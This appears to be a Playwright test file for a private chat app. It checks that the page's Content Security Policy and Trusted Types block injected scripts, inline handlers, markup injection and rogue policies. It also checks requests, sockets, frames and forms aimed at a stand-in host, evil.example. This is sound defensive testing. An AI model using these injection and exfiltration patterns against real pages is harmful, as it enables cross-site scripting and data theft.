// The policy of the page, in the browser: what it blocks, that nothing needs an exception from it,
// and that the watch over all other tests would see a breach.
import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures.ts';

const TYPES = 'require-trusted-types-for trusted-types-sink';

/** What an intruder would do, as code within the page, and what is blocked of it. */
const BREACHES: [string, string, (page: Page) => Promise<unknown>][] = [
  [
    'an inline script',
    TYPES,
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        script.append('document.title = 1');
        document.body.append(script);
      }),
  ],
  [
    'an inline handler',
    TYPES,
    (page) =>
      page.evaluate(() => {
        const image = document.createElement('img');
        try {
          image.setAttribute('onclick', 'document.title = 1');
        } catch {
          // Said in a report as well.
        }
        image.click();
      }),
  ],
  [
    'a foreign script',
    TYPES,
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        try {
          script.src = 'https://evil.example/x.js';
        } catch {
          // Said in a report as well.
        }
      }),
  ],
  [
    'markup from a text',
    TYPES,
    (page) =>
      page.evaluate(() => {
        try {
          document.body.innerHTML = '<b>x</b>';
        } catch {
          // Said in a report as well.
        }
      }),
  ],
  [
    'code from a text',
    TYPES,
    (page) =>
      // Not by `evaluate` itself, which the policy does not hold.
      page.evaluate(
        () =>
          new Promise((resolve) => {
            setTimeout(() => {
              try {
                Reflect.construct(Function, ['1']);
              } catch {
                // Said in a report as well.
              }
              resolve(null);
            });
          }),
      ),
  ],
  [
    'a policy of its own for markup',
    'trusted-types trusted-types-policy',
    (page) =>
      page.evaluate(() => {
        // as: not in the types of the DOM here
        const { trustedTypes } = window as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): unknown };
        };
        try {
          trustedTypes.createPolicy('intruder', { createHTML: (text: string) => text });
        } catch {
          // Said in a report as well.
        }
      }),
  ],
  [
    'inline style',
    'style-src-attr inline',
    (page) => page.evaluate(() => document.body.setAttribute('style', 'opacity: 0')),
  ],
  [
    'a foreign picture',
    'img-src https://evil.example/x.png',
    (page) =>
      page.evaluate(() => {
        new Image().src = 'https://evil.example/x.png';
      }),
  ],
  [
    'a foreign frame',
    'frame-src https://evil.example',
    (page) =>
      page.evaluate(() => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
      }),
  ],
  [
    'a foreign call',
    'connect-src https://evil.example/',
    (page) => page.evaluate(() => fetch('https://evil.example/').catch(() => {})),
  ],
  [
    'a foreign socket',
    'connect-src wss://evil.example/',
    (page) =>
      page.evaluate(() => {
        try {
          return void new WebSocket('wss://evil.example/');
        } catch {
          return undefined;
        }
      }),
  ],
  [
    'another base',
    'base-uri https://evil.example/',
    (page) =>
      page.evaluate(() => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      }),
  ],
  [
    'a form',
    'form-action',
    (page) =>
      page.evaluate(() => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      }),
  ],
];

for (const [what, blocked, breach] of BREACHES) {
  test(`the policy blocks ${what}, and the watch sees it`, async ({ ann }) => {
    await ann.page.goto(`${ann.base}/`);
    await expect(ann.page.getByLabel('Your name')).toBeVisible();
    await breach(ann.page);
    await expect
      .poll(() => ann.violations.map((one) => one.slice(0, blocked.length)))
      .toContain(blocked);
    const left = await ann.page.evaluate(() => [document.title, location.pathname]);
    expect(left).toEqual(['Private chat', '/']);
    ann.takeViolations();
  });
}

test('a test whose page breaks the policy fails', async ({ ann }) => {
  test.fail();
  await ann.page.goto(`${ann.base}/`);
  await ann.page.evaluate(() => fetch('https://evil.example/').catch(() => {}));
  await expect.poll(() => ann.violations).toHaveLength(1);
  ann.problems.length = 0;
});

test('no screen makes a policy for markup, not even the one it might', async ({ ann, bob }) => {
  for (const { context } of [ann, bob]) {
    await context.addInitScript(() => {
      // as: not in the types of the DOM here
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
      };
      const made: string[] = [];
      Object.assign(window, { policiesMade: made });
      const create = trustedTypes.createPolicy.bind(trustedTypes);
      trustedTypes.createPolicy = (name, rules) => {
        // One names the page's worker, and can name nothing else: installed.spec.ts.
        if (Object.keys(rules).join() !== 'createScriptURL') made.push(name);
        return create(name, rules);
      };
    });
  }
  const cards = await ann.createChat();
  await expect(ann.page.getByRole('img', { name: /^QR code/ })).toHaveCount(2);
  await bob.enter(cards.bob);
  await ann.enter(cards.ann);
  await ann.say('See https://example.org/');
  await bob.sees('See https://example.org/');
  for (const { page } of [ann, bob]) {
    // as: made above
    const made = await page.evaluate(
      () => (window as unknown as { policiesMade: string[] }).policiesMade,
    );
    expect(made).toEqual([]);
  }
  await ann.endChat();
  await expect(bob.heading).toHaveText('Ann ended the chat');
});
